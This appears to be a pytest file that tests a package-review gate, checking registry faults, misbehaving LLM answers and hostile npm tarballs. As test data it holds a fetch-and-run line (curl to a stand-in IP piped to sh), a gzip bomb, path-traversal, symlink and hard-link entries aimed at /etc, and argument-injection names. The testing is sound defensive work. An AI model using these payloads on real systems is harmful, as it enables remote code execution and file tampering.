"""What a registry, a package or an LLM may do to the gate: no job is lost, nothing is harmed.

The real registry serves no such thing, so this one is a test's own, on the engine's bridge.
"""

from __future__ import annotations

import gzip
import json
import tarfile
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest

from tests.support import llm_server, npm_registry
from tests.support.commands import docker
from tests.support.npm_registry import (
    MANIFEST,
    Answer,
    Files,
    Handler,
    Registry,
    archived,
    member,
)
from tests.support.review_stack import Gate, started

JOBS = 50
KEY = "sk-never-to-be-seen"
PLAIN = {"index.js": b"module.exports = 1;\n"}
BETTER = {"index.js": b"module.exports = 2;\n"}
# What an injected model would say of it: nothing to see.
STEALS = {"steal.js": b"require('child_process').execSync('curl http://198.51.100.7/x | sh');\n"}


@pytest.fixture(scope="module")
def bridge() -> str:
    """The address of this machine on the engine's own bridge."""
    found = json.loads(docker("network", "inspect", "bridge"))[0]["IPAM"]["Config"]
    return str(found[0]["Gateway"])


@pytest.fixture(scope="module")
def registry(bridge) -> Iterator[Registry]:
    with npm_registry.serving(host=bridge) as found:
        yield found


@pytest.fixture(scope="module")
def gate(contract, engine, built, registry, bridge, project_name) -> Iterator[Gate]:
    with llm_server.serving(_opinion, host=bridge) as provider:
        variables = {
            "ARTIFACTORY_URL": registry.address,
            "LLM_PROVIDER": "openai",
            "LLM_MODEL": "m",
            "LLM_API_KEY": KEY,
            "LLM_BASE_URL": f"http://{bridge}:{provider.port}/v1",
        }
        with started(contract, engine, f"{project_name}-faults", **variables) as found:
            yield found


# --- the LLM: it answers by the package that it is asked about


def _opinion(handler: llm_server.Handler) -> None:
    told = json.dumps(handler.request_body)
    names = [name for name in OPINIONS if f"about-{name}" in told]
    OPINIONS[names[0] if names else "calm"](handler)


def _away_then_lying(handler: llm_server.Handler) -> None:
    """No answer to half of the jobs, which ask twice; then something else each time: no JSON, a
    risk below zero, another shape, an answer that is cut off."""
    lies = (
        llm_server.chat_reply("I am sorry"),
        llm_server.opinion_reply(risk=-1),
        llm_server.chat_reply('{"risk": "none"}'),
        llm_server.raw_reply(b'{"choices": [{"mess'),
        llm_server.opinion_reply(summary=""),
    )
    turn = sum("about-unreliable" in json.dumps(asked) for asked in handler.provider.requests)
    answer = llm_server.disconnect if turn <= JOBS else lies[turn % len(lies)]
    answer(handler)


OPINIONS: dict[str, llm_server.Answer] = {
    "calm": llm_server.opinion_reply(risk=0.0),
    "unreliable": _away_then_lying,
    "slow": llm_server.slow_body,
    "grave": llm_server.opinion_reply(risk=1.0),
}


def _publish(registry: Registry, package: str, files: npm_registry.Files = BETTER) -> str:
    """Two versions; returns the path of the new one's tarball."""
    registry.publish("1.0.0", PLAIN, package=package)
    return registry.publish("1.1.0", files, package=package)


def _submit(gate: Gate, package: str, jobs: int = 1) -> list[str]:
    return [gate.submit(package, "1.0.0", "1.1.0", force=True) for _ in range(jobs)]


# --- the registry


def _at_first(bad: Sequence[Answer], requests: int, then: Answer) -> Answer:
    """Answer so many requests badly in each way, and all others well."""
    left, lock = [way for way in bad for _ in range(requests)], threading.Lock()

    def answer(handler: Handler) -> None:
        with lock:
            chosen = left.pop(0) if left else then
        chosen(handler)

    return answer


def _cut(handler: Handler) -> None:
    """Half of what was promised, and no more."""
    handler.send_response(200)
    handler.send_header("content-length", "100000")
    handler.end_headers()
    handler.wfile.write(b"\x1f\x8b" * 100)


def _slowly(body: bytes) -> Answer:
    """A few bytes at a time, about a second in all."""

    def answer(handler: Handler) -> None:
        handler.send_response(200)
        handler.send_header("content-length", str(len(body)))
        handler.end_headers()
        for start in range(0, len(body), 20):
            handler.wfile.write(body[start : start + 20])
            handler.wfile.flush()
            time.sleep(20 / len(body))  # the fault itself

    return answer


def test_temporary_failures_are_retried_and_no_job_is_lost(gate, registry):
    """The registry answers 500, cuts off, and is slow from then on; for half of the jobs the LLM is
    away, to others it lies."""
    path = _publish(registry, "about-unreliable")
    bad, slowly = (npm_registry.reply(500), _cut), _slowly(npm_registry.packed(BETTER))
    registry.answers[path] = _at_first(bad, JOBS // 4, slowly)
    reviews = gate.all_ended(_submit(gate, "about-unreliable", JOBS))
    assert [review["status"] for review in reviews] == ["done"] * JOBS
    # Each bad answer costs an attempt, and a slow one none.
    assert sum(review["attempts"] - 1 for review in reviews) == JOBS // 4 * len(bad)
    assert {review["result"]["summary_missing"] for review in reviews} == {
        "the provider cannot be reached",
        "the answer is not of the agreed shape",
    }
    assert {review["result"]["verdict"] for review in reviews} == {"pass"}


def test_wrong_checksum_fails_each_job_without_retry(gate, registry):
    _publish(registry, "forged")
    registry.answers["/forged/-/1.1.0.tgz"] = npm_registry.reply(200, npm_registry.packed(STEALS))
    reviews = gate.all_ended(_submit(gate, "forged", JOBS))
    assert {review["failure"]["code"] for review in reviews} == {"integrity"}
    assert {(review["attempts"], review["dead_letter"]) for review in reviews} == {(1, False)}


# --- the LLM


def test_llm_raises_the_risk_but_never_lowers_it(gate, registry):
    _publish(registry, "about-grave")
    _publish(registry, "about-calm", STEALS)
    raised, kept = gate.all_ended(_submit(gate, "about-grave") + _submit(gate, "about-calm"))
    assert (raised["result"]["verdict"], raised["result"]["risk"]) == ("block", 1.0)
    assert kept["result"]["verdict"] == "block"
    assert kept["result"]["summary"]


def test_endless_llm_answer_times_out_without_losing_the_review(gate, registry):
    """One for each worker but one; the last goes on with other jobs meanwhile."""
    _publish(registry, "about-slow")
    _publish(registry, "meanwhile")
    waiting = _submit(gate, "about-slow", 3)
    (other,) = gate.all_ended(_submit(gate, "meanwhile"))
    assert other["status"] == "done"
    assert {gate.review(id_)["status"] for id_ in waiting} <= {"queued", "running"}
    reviews = gate.all_ended(waiting)
    assert {review["status"] for review in reviews} == {"done"}
    assert {r["result"]["summary_missing"] for r in reviews} == {"the provider took too long"}


# --- hostile packages


def _bomb() -> bytes:
    """Zeros, 4 GiB of them: a gzip file may be many, one after the other."""
    zeros = tarfile.TarInfo("package/zeros")
    zeros.size = 2**32
    manifest, content = member("package.json", MANIFEST)
    head = manifest.tobuf() + content.ljust(512, b"\0") + zeros.tobuf()
    return gzip.compress(head) + gzip.compress(bytes(2**24)) * 256


def _million() -> bytes:
    """A million files of nothing; no name comes twice before there are too many."""
    files = b"".join(tarfile.TarInfo(f"package/{n}").tobuf() for n in range(25_000))
    return gzip.compress(files, 1) * 40


def _folders() -> bytes:
    """A million folders, all of the same name."""
    folder = tarfile.TarInfo("package/lib/")
    folder.type = tarfile.DIRTYPE
    return gzip.compress(folder.tobuf() * 1000) * 1000


def _wide(text: str) -> Callable[[], bytes]:
    """A line of characters that take more than a byte each."""
    return lambda: npm_registry.packed({"a.js": text.encode() * 2_500_000})


def _entry(name: str, content: bytes = b"", **facts: Any) -> bytes:
    """A package with one file more, whose name stands in the tarball as it is."""
    return archived(
        [member("package.json", MANIFEST), member("", content, name=name, **facts)],
        tarfile.GNU_FORMAT,
    )


HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "gigabytes": (_bomb, "too_large"),
    "a-million-files": (_million, "too_large"),
    "a-million-folders": (_folders, "too_large"),
    "dots": (lambda: _entry("package/../../etc/cron.d/x"), "unsafe_path"),
    "absolute": (lambda: _entry("/etc/cron.d/x"), "unsafe_path"),
    "symlink": (lambda: _entry("package/a", type=tarfile.SYMTYPE, linkname="/"), "unsafe_entry"),
    "hard-link": (
        lambda: _entry("package/a", type=tarfile.LNKTYPE, linkname="/etc/passwd"),
        "unsafe_entry",
    ),
    "name-not-utf-8": (
        lambda: _entry(b"package/\xff.js".decode("utf-8", "surrogateescape")),
        "unsafe_path",
    ),
    "manifest-not-json": (
        lambda: archived([member("package.json", b"{'name': nothing")]),
        "bad_manifest",
    ),
    "one-line": (lambda: npm_registry.packed({"a.js": b"x" * 50_000_000}), "done"),
    "wide-characters": (_wide("€é"), "done"),
    "content-not-utf-8": (
        lambda: npm_registry.packed({"a.js": b"\xff\xfe(\x00\n" * 1000}),
        "done",
    ),
    "name-like-a-flag": (lambda: npm_registry.packed({"--registry=x": b"-rf\n"}), "done"),
}
BEFORE: dict[str, Callable[[], bytes | Files]] = {"wide-characters": _wide("é€")}


def test_hostile_packages_are_refused_and_the_worker_survives(gate, registry):
    for package, (make, _) in HOSTILE.items():
        before = BEFORE.get(package, lambda: PLAIN)
        registry.publish("1.0.0", before(), package=package)
        registry.publish("1.1.0", make(), package=package)
    _publish(registry, "good")
    ids = {package: _submit(gate, package)[0] for package in HOSTILE}
    reviews = {package: gate.ended(id_) for package, id_ in ids.items()}
    outcomes = {
        package: review["failure"]["code"] if review["failure"] else review["status"]
        for package, review in reviews.items()
    }
    assert outcomes == {package: outcome for package, (_, outcome) in HOSTILE.items()}
    assert not any(review["dead_letter"] for review in reviews.values())
    (good,) = gate.all_ended(_submit(gate, "good"))
    assert good["status"] == "done"


def test_package_named_like_a_flag_is_refused_by_the_api(gate):
    body = {"package": "--registry=http://elsewhere.test", "from": "1.0.0", "to": "1.1.0"}
    assert gate.ask("POST", "/v1/reviews", json=body).status_code == 422


@pytest.fixture(scope="module", autouse=True)
def _nothing_was_harmed(gate) -> Iterator[None]:
    """After all of it: no worker was killed or ended, and none went beyond its memory."""
    workers = gate.containers("worker")
    yield
    assert gate.containers("worker") == workers
    for found in gate.engine.inspect("container", workers):
        assert not found["State"]["OOMKilled"]
        assert found["RestartCount"] == 0
        assert _peak(found["State"]["Pid"]) < found["HostConfig"]["Memory"]
        assert KEY not in docker("logs", found["Id"])


def _peak(pid: int) -> int:
    """The most memory that a container had, in bytes (cgroup v2, or v1)."""
    for line in Path(f"/proc/{pid}/cgroup").read_text().splitlines():
        _, controllers, path = line.split(":", 2)
        for file in (
            Path("/sys/fs/cgroup", path.lstrip("/"), "memory.peak"),
            Path("/sys/fs/cgroup/memory", path.lstrip("/"), "memory.max_usage_in_bytes"),
        ):
            if file.exists() and controllers in ("", "memory"):
                return int(file.read_text())
    raise AssertionError("the kernel does not tell how much memory the container had")
